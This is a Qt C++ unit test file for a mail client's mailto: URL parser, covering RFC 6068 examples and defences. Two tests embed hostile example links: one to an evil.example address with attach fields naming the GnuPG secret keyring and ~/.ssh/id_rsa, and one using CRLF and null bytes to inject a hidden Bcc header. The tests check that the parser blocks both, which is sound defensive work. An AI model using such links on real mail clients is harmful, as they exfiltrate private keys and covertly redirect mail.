// SPDX-License-Identifier: GPL-3.0-or-later
#include "compose/mailto.h"

#include <QTest>

using tern::compose::parseMailto;

class TestMailto : public QObject
{
    Q_OBJECT

private slots:
    void rfc6068Examples()
    {
        // RFC 6068 §6.1 and §6.2.
        auto d = parseMailto(QStringLiteral("mailto:chris@example.com"));
        QVERIFY(d);
        QCOMPARE(d->to, QStringList{QStringLiteral("chris@example.com")});

        d = parseMailto(QStringLiteral("mailto:infobot@example.com?subject=current-issue"));
        QCOMPARE(d->subject, QStringLiteral("current-issue"));

        d = parseMailto(QStringLiteral("mailto:infobot@example.com?body=send%20current-issue%0D%0Asend%20index"));
        QCOMPARE(d->body, QStringLiteral("send current-issue\nsend index"));

        d = parseMailto(QStringLiteral("mailto:?to=joe@example.com&cc=bob@example.com&body=hello"));
        QCOMPARE(d->to, QStringList{QStringLiteral("joe@example.com")});
        QCOMPARE(d->cc, QStringList{QStringLiteral("bob@example.com")});
        QCOMPARE(d->body, QStringLiteral("hello"));

        d = parseMailto(QStringLiteral("mailto:joe@example.com,bob@example.com"));
        QCOMPARE(d->to, (QStringList{QStringLiteral("joe@example.com"), QStringLiteral("bob@example.com")}));

        // §6.2: percent-encoded UTF-8, and '+' is a plus.
        d = parseMailto(QStringLiteral("mailto:user@example.org?subject=caf%C3%A9&body=1+1"));
        QCOMPARE(d->subject, QStringLiteral("café"));
        QCOMPARE(d->body, QStringLiteral("1+1"));
        QCOMPARE(parseMailto(QStringLiteral("MAILTO:a@b.example"))->to, QStringList{QStringLiteral("a@b.example")});
    }

    void notAMailtoUrl()
    {
        QVERIFY(!parseMailto(QStringLiteral("https://example.org")));
        QVERIFY(!parseMailto(QString()));
    }

    void linksCannotAttachFilesOrSetHeaders()
    {
        // "Mailto: Me Your Secrets" (NDSS 2020): attach= exfiltrated local files through mail clients.
        const auto d = parseMailto(QStringLiteral(
            "mailto:x@evil.example?attach=/home/user/.gnupg/secring.gpg&attachment=~/.ssh/id_rsa"
            "&from=ceo@bank.example&reply-to=evil@evil.example&X-Header=1&subject=hi"));
        QVERIFY(d);
        QCOMPARE(d->subject, QStringLiteral("hi"));
        QCOMPARE(d->ignoredFields, (QStringList{QStringLiteral("attach"), QStringLiteral("attachment"),
                                                QStringLiteral("from"), QStringLiteral("reply-to"),
                                                QStringLiteral("x-header")}));
    }

    void singleLineFieldsCannotInjectHeaderLines()
    {
        const auto d = parseMailto(QStringLiteral(
            "mailto:a@example.org%0D%0ABcc:spy@evil.example?subject=Hello%0D%0ABcc:%20spy@evil.example%00"));
        QVERIFY(d);
        QCOMPARE(d->subject, QStringLiteral("Hello Bcc: spy@evil.example"));
        QCOMPARE(d->to, QStringList{QStringLiteral("a@example.org Bcc:spy@evil.example")});
        QVERIFY(d->bcc.isEmpty());
        for (const QString &s : d->to + QStringList{d->subject})
            QVERIFY(!s.contains(QLatin1Char('\r')) && !s.contains(QLatin1Char('\n')) && !s.contains(QChar(0)));
    }
};

QTEST_APPLESS_MAIN(TestMailto)
#include "tst_mailto.moc"
